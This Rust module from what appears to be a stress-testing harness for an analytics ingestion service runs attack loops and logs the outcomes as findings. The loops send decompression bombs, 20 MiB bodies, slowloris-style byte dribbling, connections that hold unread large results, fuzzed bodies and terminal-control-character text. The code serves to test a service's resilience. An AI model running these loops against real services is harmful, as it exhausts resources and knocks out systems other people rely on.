//! Attacks with a project's key, which stands in the source of every page.

use super::context::AttackContext;
use crate::attack::bombs::gzip;
use crate::attack::hostile_text::HOSTILE_TEXT;
use crate::attack::http::request;
use rand::RngExt;
use rand::distr::{Alphanumeric, SampleString};
use rand::rngs::StdRng;
use serde_json::{Value, json};
use std::sync::Arc;
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::time::sleep;

/// Length of the longest accepted body in bytes, and one byte more.
const BODY_BYTES: [usize; 2] = [20 << 20, (20 << 20) + 1];
/// Bytes of an event above the limit.
const EVENT_BYTES: usize = 1_100_000;
/// Bytes of an event in a large body.
const LARGE_EVENT_BYTES: usize = 50_000;
/// Number of bodies that are sent slowly, the pause between their bytes, and the number of bytes.
const SLOW: usize = 50;
const DRIBBLE: Duration = Duration::from_millis(500);
const DRIBBLES: usize = 60;
/// Events of a request for results: as many as one may have.
const RESULTS: usize = 50_000;
/// Connections that request results and never read them; they are held for `HELD`.
const READERS: usize = 24;
const HELD: Duration = Duration::from_secs(20);

/// Sends events and notes the outcome.
pub(super) async fn post(context: &AttackContext, what: &str, body: &Value) {
    let sent = request("POST", "/batch/", &[], body.to_string().as_bytes());
    let outcome = context.sender.send(&sent).await;
    context.findings.note(what, &outcome);
}

fn batch(context: &AttackContext, events: &[Value]) -> Value {
    json!({"api_key": context.tenants.hostile.project_key, "batch": events})
}

/// Sends bombs that decode to just below the limit of a known key.
pub(super) async fn bombs(context: Arc<AttackContext>, mut rng: StdRng) {
    loop {
        let at = rng.random_range(0..context.bombs_with_key.len().max(1));
        if let Some(bomb) = context.bombs_with_key.get(at) {
            let outcome = context.sender.send(&bomb.request("/batch/")).await;
            let way = format!("{}: {outcome}", bomb.way);
            context
                .findings
                .count("bombs with a key, by encoding", &way);
            context.findings.note("bombs with a key", &outcome);
        }
        sleep(context.pause * 10).await;
    }
}

/// Sends mutated bodies of the fuzzers' corpora with a known key, and mutations of the costliest so
/// far.
pub(super) async fn mutations(context: Arc<AttackContext>, mut rng: StdRng) {
    let key = &context.tenants.hostile.project_key;
    let (search, client) = (&context.search_with_key, &context.sender);
    loop {
        let outcome = search.step(client, &context.corpus, key, &mut rng).await;
        context.findings.note("mutated bodies with a key", &outcome);
        sleep(context.pause).await;
    }
}

/// Sends bodies of the highest length, and an event above the limit.
pub(super) async fn large(context: Arc<AttackContext>, mut rng: StdRng) {
    let key = &context.tenants.hostile.project_key;
    let text = Alphanumeric.sample_string(&mut rng, LARGE_EVENT_BYTES);
    let event = format!(r#"{{"event":"l","distinct_id":"h","properties":{{"t":"{text}"}}}}"#);
    loop {
        for bytes in BODY_BYTES {
            let mut body = format!(r#"{{"api_key":"{key}","batch":["#);
            while body.len() + event.len() + 3 < bytes {
                body.push_str(&event);
                body.push(',');
            }
            body.push_str("{}]}");
            body.push_str(&" ".repeat(bytes.saturating_sub(body.len())));
            let sent = request("POST", "/batch/", &[], body.as_bytes());
            drop(body);
            let outcome = context.sender.send(&sent).await;
            context.findings.note("bodies of 20 MiB", &outcome);
            sleep(context.pause * 50).await;
        }
        let large =
            json!({"event": "l", "distinct_id": "h", "properties": {"t": "x".repeat(EVENT_BYTES)}});
        post(&context, "too large events", &batch(&context, &[large])).await;
    }
}

/// Sends bodies one byte at a time.
pub(super) async fn slow(context: Arc<AttackContext>) {
    let key = &context.tenants.hostile.project_key;
    let head =
        format!("POST /batch/?token={key} HTTP/1.1\r\nHost: t\r\nContent-Length: 20000000\r\n\r\n");
    loop {
        let mut held = Vec::new();
        for _ in 0..SLOW {
            if let Ok(mut stream) = context.sender.connect().await
                && stream.write_all(head.as_bytes()).await.is_ok()
            {
                held.push(stream);
            }
        }
        context
            .findings
            .count("slow bodies", &format!("{} at once", held.len()));
        for _ in 0..DRIBBLES {
            for stream in &mut held {
                // The server closes a connection after refusing it as too slow.
                drop(stream.write_all(b" ").await);
            }
            sleep(DRIBBLE).await;
        }
    }
}

/// Requests results of 4.6 MB each and never reads them.
pub(super) async fn unread_results(context: Arc<AttackContext>) {
    let event = |number| format!(r#"{{"uuid":"01990000-0000-7000-8000-{number:012}"}}"#);
    let events: Vec<String> = (0..RESULTS).map(event).collect();
    let text = format!(
        r#"{{"created_at":"2026-11-20T14:38:00Z","batch":[{}]}}"#,
        events.join(",")
    );
    let body = gzip(text.as_bytes());
    let bearer = format!("Bearer {}", context.tenants.hostile.project_key);
    let headers = [("Authorization", &*bearer), ("Content-Encoding", "gzip")];
    let path = "/i/v1/analytics/events?dry_run=true";
    let sent = request("POST", path, &headers, &body.unwrap_or_default());
    loop {
        let mut held = Vec::new();
        for _ in 0..READERS {
            if let Ok(mut stream) = context.sender.connect().await
                && stream.write_all(&sent).await.is_ok()
            {
                held.push(stream);
            }
        }
        context.findings.count(
            "results that nobody reads",
            &format!("{} at once", held.len()),
        );
        sleep(HELD).await;
    }
}

/// Sends names and values with terminal control characters. Events without an id are kept as
/// rejected, for the operator to read.
pub(super) async fn texts(context: Arc<AttackContext>) {
    loop {
        let events = [
            json!({"event": HOSTILE_TEXT, "distinct_id": HOSTILE_TEXT, "properties": {HOSTILE_TEXT: HOSTILE_TEXT}}),
            json!({"event": HOSTILE_TEXT, "properties": {HOSTILE_TEXT: HOSTILE_TEXT}}),
        ];
        post(
            &context,
            "hostile texts in events",
            &batch(&context, &events),
        )
        .await;
        sleep(context.pause * 50).await;
    }
}
